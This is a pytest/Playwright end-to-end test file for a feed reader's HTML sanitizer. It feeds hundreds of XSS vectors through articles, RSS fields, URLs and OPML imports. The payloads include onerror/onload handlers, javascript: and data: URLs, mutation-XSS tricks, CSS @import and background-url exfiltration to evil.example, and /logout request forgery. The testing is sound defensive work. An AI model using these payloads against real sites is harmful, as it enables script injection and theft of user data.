"""All that a stranger can put before a reader, in the real page: nothing runs, is torn, or tells anybody.

Ways to smuggle script in stand in entries: as markup in the article and, as text, in title, author, category
and addresses. Several share an entry where cleaning shows that none hides or changes another. A script that
runs says so (`alert` is replaced), a violation of the content policy shows in the console, and a request that
leaves for anything but a picture is noted (and finds nobody there).
"""

from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import cache
from html import escape
from urllib.parse import quote, urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request

from reedbed.ingest.parse.markup import text_of_html
from reedbed.ingest.sanitize import clean_html
from tests.e2e.conftest import PATIENCE
from tests.feedsite import FeedSite
from tests.processes import OWNER, Reedbed, signed_in, wait_for
from tests.serving import in_thread
from tests.unit.sanitize.vectors import VECTORS

PER_FEED = 15
PER_ARTICLE = 6
STEPS = 40
DESK = {"width": 1440, "height": 900}
HARMLESS_KINDS = {"image", "media"}
WATCH = """
window.hurt = [];
for (const name of ["alert", "confirm", "prompt", "print", "open"])
  window[name] = () => hurt.push(name);
addEventListener("securitypolicyviolation", event =>
  hurt.push(`policy: ${event.violatedDirective} ${event.blockedURI}`));
"""
LOOK = r"""
(part) => {
  const kinds = ["mouseover", "mouseenter", "pointerenter", "focus", "focusin", "animationstart",
    "transitionend", "load", "error", "toggle", "wheel", "scroll", "copy"];
  const forbidden = ["script", "style", "iframe", "object", "embed", "form", "base", "meta", "link",
    "svg", "input", "button", "template", "annotation", "annotation-xml", "maction", "mglyph", "malignmark",
    "math [href]", "math [id]"];
  const addressed = ["href", "src", "action", "formaction", "poster", "data-original"];
  const evil = /^[\s\u0000-\u0020]*(javascript|vbscript|data:(?!image\/(png|jpe?g|gif|webp|avif)))/i;
  const article = document.querySelector("#article") || document.body;
  for (const one of article.querySelectorAll("*"))
    for (const kind of kinds) one.dispatchEvent(new Event(kind));
  const looked = [...part.querySelectorAll("*")];
  return {
    hurt,
    torn: document.querySelector("#prose") === null || document.querySelector(".read-end") === null,
    bad: [...article.querySelectorAll(`#prose :is(${forbidden})`),
      ...[...article.querySelectorAll("#prose math *")].filter(one => !one.namespaceURI.endsWith("/MathML"))]
      .map(one => one.outerHTML.slice(0, 200)),
    handlers: looked.flatMap(one => one.getAttributeNames()).filter(name => /^on/i.test(name)),
    addresses: looked.flatMap(one => addressed.map(name => one.getAttribute(name)))
      .filter(value => value && evil.test(value)),
    clobbered: ["cookie", "forms", "getElementById", "querySelector", "location", "defaultView"]
      .filter(name => document[name] instanceof Element),
  };
}
""".strip()
PROVOKE = f"() => ({LOOK})(document)"
# The list stays as it is from step to step, so the whole page is looked at once, at the last one.
WALK = """
async steps => {
  const shown = () => document.querySelector("article.read")?.dataset.entry;
  const found = {};
  for (let step = 0; step < steps; step++) {
    const before = shown();
    document.body.dispatchEvent(new KeyboardEvent("keydown", {key: "j", bubbles: true}));
    for (let wait = 0; shown() === before && wait < 2000; wait++)
      await new Promise(later => setTimeout(later, 5));
    if (shown() === before) break;
    found[shown()] = (LOOK)(step < steps - 1 ? document.getElementById("article") : document);
  }
  return found;
}
""".replace("LOOK", LOOK)
WELL = {"hurt": [], "torn": False, "bad": [], "handlers": [], "addresses": [], "clobbered": []}

MORE = [
    "<a id=forms></a><a id=forms name=x></a><img name=cookie><img name=getElementById>",
    "<form id=htmx><input name=config></form><a id=htmx href=https://evil.example/></a>",
    "<a id=article></a><div id=prose>x</div><div id=article-body></div><div id=toast></div>",
    "<div class=toast hx-get=/logout hx-trigger=load></div>",
    "<div data-act=mark-all data-hx-post=/mark-all>x</div><button data-act=star>x</button>",
    "<p data-entry=1 data-current class=row>x</p>",
    "<img src=https://evil.example/a.png?c=x onload=alert(1)>",
    "<img src='https://evil.example/\"><script>alert(1)</script>'>",
    "<style>@import url(//evil.example/x.css);input[value^=a]{background:url(//evil.example/a)}</style>",
    "<p style='position:fixed;inset:0;z-index:99999;background:red'>cover</p>",
    "<p class='dialog modal toast pane-body'>x</p>",
    "<link rel=preload as=script href=https://evil.example/x.js><link rel=dns-prefetch href=//evil.example>",
    "<link rel=manifest href=https://evil.example/m.json><meta name=referrer content=unsafe-url>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<base target=_self href=//evil.example/><a href=x>relative</a>",
    "<video src=https://evil.example/v.mp4 autoplay onplay=alert(1)></video>",
    "<audio autoplay src=https://evil.example/a.mp3 oncanplay=alert(1)></audio>",
    "<object data=https://evil.example/x.swf><param name=src value=javascript:alert(1)></object>",
    "<a href='https://evil.example/' target=_top onclick=alert(1) ping='/logout'>x</a>",
    "<dialog open><form method=dialog><button autofocus onfocus=alert(1)>x</button></form></dialog>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]></style></svg>",
    "<p>{{constructor.constructor('alert(1)')()}}</p>{% raw %}<script>alert(1)</script>{% endraw %}",
    "</article></div></main><script>alert(1)</script><div>",
    "</div></div></div></article></main><h1>torn</h1>",
    "-->--><script>alert(1)</script><!--",
    "]]></content:encoded><script>alert(1)</script>",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.example"]}]}</script>',
    "<iframe credentialless src=https://evil.example/></iframe><fencedframe></fencedframe>",
    "<input type=hidden popover id=x onbeforetoggle=alert(1)><button popovertarget=x>x</button>",
    "<xss onscrollsnapchange=alert(1) style=overflow-y:hidden;scroll-snap-type:x></xss>",
    "<a href='#' onclick=alert(1)>here</a><a href='/logout'>out</a>",
    "<img src=/logout><img src=/api/v1/export><img srcset='/logout 1x'>",
]
ALL = [*dict.fromkeys([*VECTORS, *MORE])]


@dataclass
class Watched:
    page: Page
    own: str
    complaints: list[str] = field(default_factory=list)
    left_for: set[str] = field(default_factory=set)

    def assert_well(self, where: str) -> None:
        assert self.complaints == [], where
        assert self.left_for == set(), where
        assert self.page.url.startswith(self.own), where


@cache
def articles() -> list[list[str]]:
    found: list[list[str]] = []
    for way in ALL:
        readable = way.encode("utf-8", "ignore").decode().replace("\0", "")
        if found and len(found[-1]) < PER_ARTICLE and _leave_each_other_alone([*found[-1], readable]):
            found[-1].append(readable)
        else:
            found.append([readable])
    return found


def _leave_each_other_alone(ways: list[str]) -> bool:
    """Cleaned together they are what they are apart."""
    apart = "".join(clean_html(_content([way]), None) for way in ways)
    titles = " ".join(text_of_html(_title([way])) for way in ways)
    return clean_html(_content(ways), None) == apart and text_of_html(_title(ways)) == titles


def _content(ways: list[str]) -> str:
    return "".join(f"<p>Before</p>{way}<p>After</p>" for way in ways)


def _title(ways: list[str]) -> str:
    return " ".join(f"{way[:150].strip()}." for way in ways)


@pytest.fixture(scope="module")
def hostile_site() -> Iterator[FeedSite]:
    with in_thread(FeedSite()) as site:
        for number, ways in enumerate(articles()):
            name = f"hostile{number // PER_FEED}"
            site.feed(name, title=f"{ways[0][:60]} feed")
            site.publish(
                f"{number}: {_title(ways)}",
                key=str(number),
                feed=name,
                content=_content(ways),
                author=" ".join(way[:60] for way in ways),
                tags=[way[:60] for way in ways],
            )
        site.put("fields.feed", _hostile_fields(), content_type="application/rss+xml")
        yield site


@pytest.fixture(scope="module")
def entries(server: Reedbed, hostile_site: FeedSite) -> dict[str, str]:
    """Every hostile entry's id, by its key."""
    feeds = [hostile_site.feed_url(f"hostile{number}") for number in range(-(-len(articles()) // PER_FEED))]
    with signed_in(server.url) as client:
        for url in (*feeds, f"{hostile_site.url}/fields.feed"):
            client.post("/api/v1/subscriptions", json={"url": url}).raise_for_status()
        wanted = len(articles()) + len(FIELDS)
        wait_for("all entries", lambda: client.get("/api/v1/counts").json()["all"] >= wanted, 60)
        found: dict[str, str] = {}
        cursor = None
        while True:
            asked = {"limit": 200, **({"cursor": cursor} if cursor else {})}
            answer = client.get("/api/v1/entries", params=asked).json()
            found |= {entry["id"]: entry["title"] for entry in answer["items"]}
            cursor = answer["next_cursor"]
            if cursor is None:
                return found


@pytest.fixture
def watched(browser: Browser, server: Reedbed) -> Iterator[Watched]:
    context: BrowserContext = browser.new_context(viewport=DESK, locale="en-GB")
    page = context.new_page()
    page.set_default_timeout(PATIENCE)
    seen = Watched(page, server.url)

    def judge(request: Request) -> None:
        inside = request.url.startswith((server.url, "data:image/"))
        if not inside and request.resource_type not in HARMLESS_KINDS:
            seen.left_for.add(f"{request.resource_type} {request.url}")

    context.on("request", judge)
    context.add_init_script(WATCH)
    context.on("page", lambda popup: seen.complaints.append(f"opened {popup.url}") if popup != page else None)
    page.on("pageerror", lambda error: seen.complaints.append(str(error)))
    page.on("console", lambda said: seen.complaints.append(said.text) if _is_complaint(said.text) else None)
    _log_in(page, server)
    yield seen
    context.close()


def _log_in(page: Page, server: Reedbed) -> None:
    page.goto(f"{server.url}/login")
    page.fill("#email", OWNER["REEDBED_OWNER_EMAIL"])
    page.fill("#password", OWNER["REEDBED_OWNER_PASSWORD"])
    page.locator("main form button[type=submit], main button[data-kind=primary]").first.click()
    page.wait_for_url("**/unread")


def test_there_are_enough_ways() -> None:
    assert len(ALL) + len(FIELDS) + len(PLACES) * len(PAYLOADS) >= 400


def test_the_watch_notices_what_runs(watched: Watched, hostile_site: FeedSite) -> None:
    """On a page without our policy and our cleaning, the same eyes see it."""
    watched.page.goto("about:blank")
    watched.page.set_content("<img src=x onerror=alert(1)><div id=article><p onclick=alert(1)>x</p></div>")
    watched.page.wait_for_function("() => hurt.includes('alert')")


def test_what_stands_in_one_address_is_not_hidden_by_the_rest(watched: Watched, hostile_site: FeedSite) -> None:
    """On pages that would write it down as it is."""
    for careless in ("<p>{}</p>", "<p title='{}'>x</p>", '<p title="{}">x</p>', "<p title={}>x</p>"):
        watched.page.goto(hostile_site.url)
        watched.page.set_content(f"<div id=article>{careless.replace('{}', TOGETHER)}</div>")
        found = watched.page.evaluate(PROVOKE)
        assert found["hurt"] or found["handlers"], careless


def test_no_article_runs_or_tears_the_page(server: Reedbed, entries: dict[str, str], watched: Watched) -> None:
    """From one to the next by key, as a reader does; now and then by its own address."""
    page = watched.page
    page.goto(f"{server.url}/all")
    seen: set[str] = set()
    while len(seen) < len(entries):
        found: dict[str, object] = page.evaluate(WALK, STEPS)
        assert found, "there is no next article"
        assert {entries[shown]: what for shown, what in found.items() if what != WELL} == {}
        watched.assert_well(", ".join(found))
        seen |= set(found)
    for entry_id, title in list(entries.items())[::20]:
        page.goto(f"{server.url}/entry/{entry_id}")
        assert (title, page.evaluate(PROVOKE)) == (title, WELL)
        watched.assert_well(title)


def test_no_list_runs_what_its_rows_say(server: Reedbed, entries: dict[str, str], watched: Watched) -> None:
    page = watched.page
    for path in ("/unread", "/all", "/feeds", "/feeds?status=working", "/folders", "/rules", "/add"):
        page.goto(f"{server.url}{path}")
        for _ in range(3):
            page.mouse.wheel(0, 20_000)
        page.wait_for_timeout(100)
        found = page.evaluate(PROVOKE)
        assert (found["hurt"], found["handlers"], found["addresses"]) == ([], [], []), path
        watched.assert_well(path)


def test_nothing_a_reader_keeps_runs(server: Reedbed, entries: dict[str, str], watched: Watched) -> None:
    """Names of folders, tags and searches, copies: one's own words, or those of an OPML file."""
    some = list(entries)[:: max(1, len(entries) // 40)]
    with signed_in(server.url) as client:
        for number, payload in enumerate(PAYLOADS):
            client.post("/api/v1/folders", json={"name": payload[:100]})
            entry = some[number % len(some)]
            client.patch(f"/api/v1/entries/{entry}", json={"tags": [payload[:50]], "starred": True})
            client.post("/api/v1/searches", json={"name": payload[:100], "query": payload[:100]})
            client.post("/api/v1/bookmarks", json={"entry_id": entry})
        opml = "".join(
            f'<outline text="{escape(payload)}"><outline text="{escape(payload)}" title="{escape(payload)}" '
            f'xmlUrl="http://127.0.0.1:1/{number}" htmlUrl="javascript:alert(1)"/></outline>'
            for number, payload in enumerate(PAYLOADS)
        )
        document = f'<opml version="2.0"><head/><body>{opml}</body></opml>'
        client.post("/api/v1/opml", content=document.encode()).raise_for_status()
        folders = [each["id"] for each in client.get("/api/v1/folders").json()["items"]][:10]
    paths = ["/folders", "/starred", "/searches", "/bookmarks", "/highlights", "/feeds", "/rules", "/all"]
    for path in (*paths, *(f"/folder/{folder}" for folder in folders), "/settings/data", "/settings/devices"):
        watched.page.goto(f"{server.url}{path}")
        found = watched.page.evaluate(PROVOKE)
        assert (found["hurt"], found["handlers"], found["addresses"]) == ([], [], []), path
        watched.assert_well(path)


def test_nothing_in_an_address_runs(server: Reedbed, entries: dict[str, str], watched: Watched) -> None:
    for place in PLACES:
        for payload in (TOGETHER, *ALONE):
            path = place.replace("{}", quote(payload, safe=""))
            watched.page.goto(f"{server.url}{path}", wait_until="domcontentloaded")
            found = watched.page.evaluate(PROVOKE)
            assert (found["hurt"], found["handlers"], found["addresses"]) == ([], [], []), path
            assert urlsplit(watched.page.url).netloc == urlsplit(server.url).netloc, path
            watched.complaints.clear()  # a page that is not there may say so in the console
            assert watched.left_for == set(), path


PLACES = (
    "/search?q={}",
    "/tag/{}",
    "/folder/{}",
    "/all?cursor={}",
    "/feeds?search={}&status={}",
    "/login?next={}",
    "/add?url={}",
    "/{}",
)
ALONE = ("javascript:alert(1)", "//evil.example/")
"""Addresses: they do nothing unless they stand at the beginning."""
WITH_OTHERS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover=alert(1) x='",
    "</title></head><script>alert(1)</script>",
    "{{7*7}}${alert(1)}<%= alert(1) %>",
    '\\"-alert(1)}//',
    "&lt;img src=x onerror=alert(1)&gt;",
    "\u2028<svg/onload=alert(1)>\u202e",
)
TOGETHER = " ".join(WITH_OTHERS)
PAYLOADS = (*WITH_OTHERS, *ALONE)

FIELDS = {
    "link": "<link>javascript:alert(1)</link>",
    "link with a tab": "<link>java&#9;script:alert(1)</link>",
    "data link": "<link>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</link>",
    "link that breaks out": '<link>https://e.example/"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</link>',
    "guid": '<guid isPermaLink="true">javascript:alert(1)</guid>',
    "comments": "<comments>javascript:alert(1)</comments>",
    "enclosure": '<enclosure url="javascript:alert(1)" type="audio/mpeg" length="1"/>',
    "enclosure type": '<enclosure url="https://e.example/a.mp3" type="&quot;&gt;&lt;script&gt;alert(1)"/>',
    "enclosure as page": '<enclosure url="https://e.example/a.html" type="text/html" length="1"/>',
    "enclosure as svg": '<enclosure url="https://e.example/a.svg" type="image/svg+xml" length="1"/>',
    "thumbnail": '<media:thumbnail url="javascript:alert(1)"/>',
    "svg thumbnail": '<media:thumbnail url="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
    "media player": '<media:player url="javascript:alert(1)"/>',
    "media content": '<media:content url="data:text/html,x" medium="video"/>',
    "media title": '<media:title type="html">&lt;img src=x onerror=alert(1)&gt;</media:title>',
    "itunes image": '<itunes:image href="javascript:alert(1)"/>',
    "itunes author": "<itunes:author>&lt;script&gt;alert(1)&lt;/script&gt;</itunes:author>",
    "author": "<author>&lt;script&gt;alert(1)&lt;/script&gt;@e.example (&lt;b&gt;x)</author>",
    "creator": "<dc:creator>&lt;img src=x onerror=alert(1)&gt;</dc:creator>",
    "category": "<category>&lt;svg onload=alert(1)&gt;</category>",
    "category address": '<category domain="javascript:alert(1)">x</category>',
    "source": '<source url="javascript:alert(1)">&lt;script&gt;alert(1)&lt;/script&gt;</source>',
    "date": "<pubDate>&lt;script&gt;alert(1)&lt;/script&gt;</pubDate>",
    "description": "<description>&lt;script&gt;alert(1)&lt;/script&gt;text</description>",
    "twice escaped": "<description>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;</description>",
    "naked markup": "<description><script>alert(1)</script><b onclick='alert(1)'>x</b></description>",
    "xhtml": '<a:content type="xhtml"><x:script>alert(1)</x:script></a:content>',
    "atom link": '<a:link href="javascript:alert(1)" rel="alternate"/>',
    "atom enclosure": '<a:link href="javascript:alert(1)" rel="enclosure" type="audio/mpeg"/>',
    "base": '<description xml:base="javascript:alert(1)//">&lt;a href="x"&gt;x&lt;/a&gt;</description>',
    "language": "<dc:language>&quot; onclick=alert(1) x=&quot;</dc:language>",
}


def _hostile_fields() -> str:
    items = "".join(_item(name, xml) for name, xml in FIELDS.items())
    return (
        '<?xml version="1.0"?><rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"'
        ' xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:a="http://www.w3.org/2005/Atom" xmlns:x="http://www.w3.org/1999/xhtml"><channel><title>&lt;script&gt;alert(1)&lt;/script&gt;Fields</title>'
        "<link>javascript:alert(1)</link><description>&lt;img src=x onerror=alert(1)&gt;</description>"
        "<image><url>javascript:alert(1)</url><link>javascript:alert(1)</link></image>"
        '<generator>&lt;script&gt;alert(1)&lt;/script&gt;</generator><language>" onclick=alert(1)</language>'
        f"{items}</channel></rss>"
    )


def _item(name: str, xml: str) -> str:
    guid = "" if "<guid" in xml else f"<guid>{escape(name)}</guid>"
    return f"<item><title>Field {escape(name)}</title>{guid}{xml}</item>"


def _is_complaint(text: str) -> bool:
    return any(word in text for word in ("Refused to", "Content Security Policy", "violates", "Uncaught"))
